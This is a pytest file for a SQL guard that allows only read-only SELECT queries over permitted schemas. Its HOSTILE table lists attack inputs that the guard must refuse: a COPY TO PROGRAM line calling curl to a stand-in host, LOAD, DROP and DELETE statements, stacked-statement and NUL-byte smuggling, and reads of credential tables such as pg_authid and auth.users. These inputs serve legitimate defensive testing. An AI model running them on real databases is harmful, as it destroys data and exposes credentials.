"""The grammar layer of the SQL guard: hostile texts are refused, honest analytics is not."""

import re

import pytest

from vitrina.domain.errors import ConfigError
from vitrina.sql.guard import MAX_BYTES, check_select

ALLOWED = ["content", "ugc", "Odd Schema"]
HOSTILE = {
    # other statements
    "INSERT INTO ugc.ratings DEFAULT VALUES": "must be a SELECT",
    "UPDATE ugc.ratings SET rating = 0": "must be a SELECT",
    "DELETE FROM ugc.ratings": "must be a SELECT",
    "MERGE INTO ugc.a USING ugc.b ON true WHEN MATCHED THEN DELETE": "must be a SELECT",
    "TRUNCATE ugc.ratings": "must be a SELECT",
    "DROP TABLE ugc.ratings": "must be a SELECT",
    "CREATE TABLE ugc.x AS SELECT 1": "must be a SELECT",
    "CREATE TEMP TABLE x (a int)": "must be a SELECT",
    "ALTER TABLE ugc.ratings ADD COLUMN x int": "must be a SELECT",
    "GRANT ALL ON ugc.ratings TO public": "must be a SELECT",
    "DO $$ BEGIN DELETE FROM ugc.ratings; END $$": "must be a SELECT",
    "COPY ugc.ratings TO PROGRAM 'curl evil'": "must be a SELECT",
    "COPY (SELECT 1) TO '/tmp/x'": "must be a SELECT",
    "CALL ugc.wipe()": "must be a SELECT",
    "EXPLAIN ANALYZE SELECT 1": "must be a SELECT",
    "PREPARE x AS SELECT 1": "must be a SELECT",
    "EXECUTE x": "must be a SELECT",
    "DECLARE c CURSOR FOR SELECT 1": "must be a SELECT",
    "SET ROLE postgres": "must be a SELECT",
    "RESET ROLE": "must be a SELECT",
    "BEGIN": "must be a SELECT",
    "COMMIT": "must be a SELECT",
    "LISTEN vitrina_wake": "must be a SELECT",
    "LOCK TABLE ugc.ratings": "must be a SELECT",
    "VACUUM": "must be a SELECT",
    "LOAD 'evil'": "must be a SELECT",
    "SHOW all": "must be a SELECT",
    "-- SELECT 1\nDELETE FROM ugc.ratings": "must be a SELECT",
    "/* SELECT */ /* /* nested */ */ DELETE FROM ugc.ratings": "must be a SELECT",
    # several
    "SELECT 1; SELECT 2": "2 statements",
    "SELECT 1; DROP TABLE ugc.ratings": "2 statements",
    "SELECT 1;;;COMMIT;": "2 statements",
    "SELECT 1 /* ; */ ; /* */ DELETE FROM ugc.ratings -- ": "2 statements",
    "COMMIT; BEGIN; SELECT 1": "3 statements",
    # none
    "": "0 statements",
    " \n\t ": "0 statements",
    ";": "0 statements",
    "-- nothing": "0 statements",
    "/* nothing */": "0 statements",
    # writes and locks inside a SELECT
    "WITH x AS (DELETE FROM ugc.ratings RETURNING *) SELECT * FROM x": "DELETE inside",
    "WITH x AS (INSERT INTO ugc.ratings DEFAULT VALUES RETURNING *) SELECT * FROM x": "INSERT inside",
    "WITH x AS (UPDATE ugc.ratings SET rating = 0 RETURNING *) SELECT * FROM x": "UPDATE inside",
    "WITH x AS (MERGE INTO ugc.a USING ugc.b ON true WHEN MATCHED THEN DELETE RETURNING 1) SELECT 1": "MERGE inside",
    "WITH a AS (WITH b AS (DELETE FROM ugc.ratings RETURNING 1) SELECT 1) SELECT 1": "DELETE inside",
    "SELECT (WITH x AS (DELETE FROM ugc.ratings RETURNING 1) SELECT 1)": "DELETE inside",
    "SELECT * INTO ugc.copy FROM ugc.ratings": "SELECT INTO",
    "SELECT * INTO TEMP copy FROM ugc.ratings": "SELECT INTO",
    "SELECT 1 AS a INTO ugc.copy UNION SELECT 2": "SELECT INTO",
    "SELECT * FROM ugc.ratings FOR UPDATE": "FOR UPDATE",
    "SELECT * FROM ugc.ratings r FOR SHARE OF r NOWAIT": "FOR UPDATE",
    "SELECT * FROM (SELECT * FROM ugc.ratings FOR KEY SHARE SKIP LOCKED) q": "FOR UPDATE",
    "WITH x AS (SELECT * FROM ugc.ratings FOR NO KEY UPDATE) SELECT * FROM x": "FOR UPDATE",
    # parameters
    "SELECT $1": "parameter $1",
    "SELECT * FROM ugc.ratings LIMIT $2": "parameter $2",
    # tables
    "SELECT * FROM ratings": "has no schema",
    'SELECT * FROM "ugc.ratings"': "has no schema",
    "TABLE ratings": "has no schema",
    "SELECT * FROM pg_stat_activity": "has no schema",
    "SELECT * FROM auth.users": "schema auth is not allowed",
    "SELECT * FROM etl.etl_tokens": "schema etl is not allowed",
    "SELECT * FROM pg_catalog.pg_authid": "schema pg_catalog is not allowed",
    "SELECT * FROM information_schema.tables": "schema information_schema is not allowed",
    "SELECT * FROM pg_temp.x": "schema pg_temp is not allowed",
    'SELECT * FROM "AUTH".users': "schema AUTH is not allowed",
    'SELECT * FROM "UGC".ratings': "schema UGC is not allowed",
    'SELECT * FROM "ugc ".ratings': "schema ugc  is not allowed",
    'SELECT * FROM U&"\\0061uth".users': "schema auth is not allowed",
    "SELECT * FROM U&\"!0061uth\" UESCAPE '!' .users": "schema auth is not allowed",
    "SELECT * FROM AuTh . /* */ users": "schema auth is not allowed",
    "SELECT (SELECT max(id) FROM auth.users)": "schema auth is not allowed",
    "SELECT 1 WHERE EXISTS (SELECT FROM auth.users)": "schema auth is not allowed",
    "SELECT 1 ORDER BY (SELECT max(id) FROM auth.users)": "schema auth is not allowed",
    "SELECT * FROM ugc.ratings r JOIN LATERAL (SELECT * FROM auth.users) u ON true": "schema auth is not allowed",
    "SELECT count(*) FILTER (WHERE 1 IN (SELECT id FROM auth.users)) FROM ugc.ratings": "schema auth is not allowed",
    "VALUES ((SELECT max(id) FROM auth.users))": "schema auth is not allowed",
    "SELECT 1 UNION SELECT id FROM auth.users": "schema auth is not allowed",
    "SELECT 1 LIMIT (SELECT max(id) FROM auth.users)": "schema auth is not allowed",
    "SELECT * FROM auth.users TABLESAMPLE system (1)": "schema auth is not allowed",
    "SELECT * FROM ONLY auth.users": "schema auth is not allowed",
    "SELECT sum(1) OVER (ORDER BY (SELECT max(id) FROM auth.users))": "schema auth is not allowed",
    # a WITH query lends its name only where it is in sight
    "WITH users AS (SELECT 1) SELECT * FROM auth.users": "schema auth is not allowed",
    "WITH pg_stat_activity AS (SELECT * FROM pg_stat_activity) TABLE pg_stat_activity": "has no schema",
    "SELECT * FROM pg_shadow, (WITH pg_shadow AS (SELECT 1) TABLE pg_shadow) q": "pg_shadow has no schema",
    "WITH a AS (TABLE b), b AS (SELECT 1) SELECT * FROM a": "b has no schema",
    "(WITH a AS (SELECT 1) TABLE a) UNION ALL TABLE a": "a has no schema",
    # not SQL
    "SELECT * FRM ugc.ratings WHERE": "does not parse",
    "SELECT 'unfinished": "does not parse",
    "SELECT 1 /* unfinished": "does not parse",
    "Robert'); DROP TABLE students;--": "does not parse",
    "SELECT 1\0; DROP TABLE ugc.ratings": "NUL",
    "SELECT '\ud800'": "surrogate",
}
HONEST = [
    "SELECT 1 AS one",
    "SELECT id, title FROM content.film_work",
    "TABLE ugc.ratings",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT * FROM (VALUES (1), (2)) AS v (n)",
    "SELECT id FROM content.film_work;",
    "SELECT id FROM content.film_work ; -- the end",
    "SELECT id FROM content.film_work -- the end",
    "-- first\n/* then */ SELECT id FROM content.film_work /* last */",
    "(SELECT id FROM content.film_work)",
    'SELECT "Id" FROM "Odd Schema"."Table; DROP" AS "a""b"',
    'SELECT * FROM U&"\\0075gc".ratings',
    "SELECT E'\\'; DELETE FROM x; --' AS text, $$ ; $$ AS dollars, $a$ $1 $a$ AS tagged",
    "SELECT film_id, avg(rating) AS a, count(*) AS n FROM ugc.ratings GROUP BY film_id HAVING count(*) > 3",
    "SELECT film_id, user_id, count(*) FROM ugc.ratings GROUP BY GROUPING SETS ((film_id), (user_id), ())",
    "SELECT film_id, count(*) FROM ugc.ratings GROUP BY ROLLUP (film_id), CUBE (user_id)",
    "SELECT id, rank() OVER w, lag(rating) OVER w FROM ugc.ratings WINDOW w AS (PARTITION BY film_id ORDER BY id)",
    "SELECT sum(rating) OVER (ORDER BY id ROWS BETWEEN 3 PRECEDING AND CURRENT ROW EXCLUDE TIES) FROM ugc.ratings",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY rating) FROM ugc.ratings",
    "SELECT array_agg(DISTINCT g.name ORDER BY g.name) FILTER (WHERE g.name <> '') FROM content.genre g",
    "WITH r AS (SELECT * FROM ugc.ratings) SELECT * FROM r",
    "WITH a AS (SELECT 1 AS n), b AS (SELECT n + 1 AS n FROM a) SELECT * FROM a JOIN b USING (n)",
    "WITH a AS MATERIALIZED (SELECT 1 AS n) SELECT (SELECT max(n) FROM a) FROM ugc.ratings",
    "WITH a AS (SELECT 1 AS n) SELECT * FROM (WITH b AS (SELECT * FROM a) SELECT * FROM a, b) q",
    "WITH a AS (SELECT 1) SELECT * FROM a UNION ALL SELECT * FROM a",
    "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t",
    "WITH RECURSIVE t(n) AS (VALUES (1) UNION SELECT n FROM t) SEARCH DEPTH FIRST BY n SET o SELECT * FROM t",
    "WITH ratings AS (SELECT * FROM ugc.ratings) SELECT * FROM ratings r JOIN content.film_work f ON f.id = r.film_id",
    "SELECT f.id, l.n FROM content.film_work f LEFT JOIN LATERAL (SELECT count(*) AS n FROM ugc.ratings r"
    " WHERE r.film_id = f.id) l ON true",
    "SELECT f.id, g FROM content.film_work f CROSS JOIN LATERAL unnest(ARRAY[1, 2]) WITH ORDINALITY AS u (g, n)",
    "SELECT (ARRAY[1, 2, 3])[2:3], ARRAY(SELECT id FROM ugc.ratings), 1 = ANY (ARRAY[1])",
    "SELECT data -> 'a' ->> 'b', data #>> '{a,b}', data @> '{}', data ? 'k', jsonb_path_query(data, '$.a[*]')"
    " FROM ugc.events",
    "SELECT jsonb_build_object('id', id, 'tags', jsonb_agg(t)) FROM ugc.events GROUP BY id",
    "SELECT daterange('2020-01-01', NULL) && period, period -|- period FROM ugc.events",
    "SELECT id FROM content.film_work WHERE to_tsvector('russian', title) @@ websearch_to_tsquery('russian', 'звезда')",
    "SELECT id FROM ugc.a UNION SELECT id FROM ugc.b EXCEPT (SELECT id FROM ugc.c INTERSECT ALL SELECT id FROM ugc.d)",
    "SELECT DISTINCT ON (film_id) film_id, rating FROM ugc.ratings ORDER BY film_id, created DESC NULLS LAST",
    "SELECT id FROM ugc.ratings ORDER BY id FETCH FIRST 5 ROWS WITH TIES",
    "SELECT * FROM ugc.ratings TABLESAMPLE bernoulli (1) REPEATABLE (7)",
    "SELECT CASE WHEN rating > 5 THEN 'good' ELSE 'bad' END, coalesce(rating, 0)::numeric(3, 1) FROM ugc.ratings",
    "SELECT created AT TIME ZONE 'Europe/Moscow', date_trunc('day', created), extract(dow FROM created) FROM ugc.a",
    "SELECT * FROM ROWS FROM (generate_series(1, 3), generate_series(1, 2)) AS t (a, b)",
    "SELECT * FROM content.a NATURAL JOIN content.b FULL JOIN content.c USING (id) AS j",
    "SELECT title COLLATE \"C\", title ~* 'a.*%s{}', title LIKE '100\\%' FROM content.film_work",
    "SELECT x.* FROM ugc.docs, XMLTABLE('/a' PASSING body COLUMNS n int PATH '@n') AS x",
]


@pytest.mark.parametrize(("text", "reason"), HOSTILE.items())
def test_a_hostile_text_is_refused_with_its_reason(text: str, reason: str) -> None:
    with pytest.raises(ConfigError) as refused:
        check_select(text, ALLOWED)
    assert reason in str(refused.value)


@pytest.mark.parametrize("text", HONEST)
def test_honest_analytics_is_accepted(text: str) -> None:
    check_select(text, ALLOWED)


def test_what_surrounds_the_statement_is_left_out() -> None:
    assert check_select("  SELECT 'ё' AS x ; -- done", ALLOWED) == "SELECT 'ё' AS x"


def test_a_syntax_error_names_its_line() -> None:
    with pytest.raises(ConfigError, match=r'at or near "FRM", line 3'):
        check_select("SELECT 'ёжик' AS a\n  , b AS b\nFRM ugc.ratings\n\n", ALLOWED)


def test_every_problem_is_named_once() -> None:
    with pytest.raises(ConfigError) as refused:
        check_select("SELECT $1, * FROM a, a, auth.b FOR UPDATE", ALLOWED)
    reasons = str(refused.value)
    for reason in ("parameter $1", "table a has no schema", "schema auth is not allowed", "FOR UPDATE"):
        assert reasons.count(reason) == 1


def test_the_refusal_of_a_schema_names_the_setting() -> None:
    with pytest.raises(ConfigError, match="VITRINA_ALLOWED_SOURCE_SCHEMAS allows Odd Schema, content, ugc"):
        check_select("SELECT * FROM auth.users", ALLOWED)


def test_the_remedy_is_the_one_setting_to_change_as_it_has_to_be_written() -> None:
    with pytest.raises(ConfigError) as refused:
        check_select("SELECT * FROM sales.orders o, crm.people p, sales.lines l", ["public"])
    assert "VITRINA_ALLOWED_SOURCE_SCHEMAS=public,sales,crm " in refused.value.remedy


@pytest.mark.parametrize("table", ["pg_catalog.pg_authid", "information_schema.tables", "etl.etl_tokens", "nowhere"])
def test_what_is_never_for_queries_is_not_offered(table: str) -> None:
    with pytest.raises(ConfigError) as refused:
        check_select(f"SELECT * FROM {table}", ["public"])
    assert refused.value.remedy == ""


def test_a_text_of_a_megabyte_is_read_and_a_longer_one_refused() -> None:
    text = "SELECT '" + "x" * (MAX_BYTES - 9) + "'"
    assert check_select(text, ALLOWED) == text
    with pytest.raises(ConfigError, match="longer than"):
        check_select(text + " ", ALLOWED)


@pytest.mark.parametrize("depth", [100, 1_000, 30_000])
@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("(SELECT ", ")"),
        ("abs(", ")"),
        ("ARRAY[", "]"),
        ("1+", ""),
        ("", "::int"),
        ("", " ISNULL"),
        ("1, 1 UNION SELECT ", ", 1"),
        ("(", ", 2) + 1"),
        ("f(1,", "+1)"),
    ],
)
def test_deep_nesting_is_refused_and_does_no_harm(depth: int, before: str, after: str) -> None:
    with pytest.raises(ConfigError):
        check_select("SELECT " + before * depth + "1" + after * depth, ALLOWED)


def test_a_long_list_is_not_taken_for_deep_nesting() -> None:
    check_select(f"SELECT 1 AS one WHERE 1 IN ({', '.join(map(str, range(100_000)))})", ALLOWED)


def test_a_long_report_is_not_taken_for_deep_nesting() -> None:
    columns = ", ".join(f"max(c{n}) FILTER (WHERE a{n} > {n} AND b{n} > {n}) AS x{n}" for n in range(1_000))
    joins = " ".join(f"JOIN ugc.t{n} ON t{n}.id = t.id" for n in range(40))
    check_select(f"SELECT {columns} FROM ugc.t {joins} WHERE " + " AND ".join(["t.a > 0"] * 1_000), ALLOWED)


def test_a_relation_that_is_known_needs_no_schema_and_no_other_does() -> None:
    assert check_select("SELECT id FROM changed;", ALLOWED, known=["changed"]) == "SELECT id FROM changed"
    with pytest.raises(ConfigError, match="table changed has no schema"):
        check_select("SELECT id FROM changed", ALLOWED)
    with pytest.raises(ConfigError, match="table other has no schema"):
        check_select("SELECT c.id FROM changed c, other", ALLOWED, known=["changed"])


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ("SELECT é, 'é'\nFROM content.film_work f WHEREE x = 1", "WHEREE"),
        ("  -- й\nSELECT '😀' FROM content.a JOIN nowhere.b ON true", "nowhere.b"),
        ("SELECT 1 FROM content.a, plain", "plain"),
        ("SELECT $1", "$1"),
    ],
)
def test_a_refusal_says_where_in_characters(text: str, wrong: str) -> None:
    with pytest.raises(ConfigError) as refused:
        check_select(text, ALLOWED)
    assert refused.value.at == re.search(re.escape(wrong), text).start() + 1  # type: ignore[union-attr]
